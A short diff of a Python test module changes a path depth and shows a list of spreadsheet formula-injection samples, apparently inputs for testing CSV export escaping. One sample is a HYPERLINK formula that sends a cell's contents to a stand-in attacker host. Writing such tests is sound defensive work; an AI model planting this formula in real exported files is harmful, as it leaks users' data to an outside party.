@@ -24,7 +24,7 @@ from tests.cli_helpers import run_cli
 from tests.fakes.destinations import sync_named
 from tests.fakes.plan_data import AS_OF, SCHEME, SimpleContent, insert_plan, make_assignment
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "@SUM(1+1)",
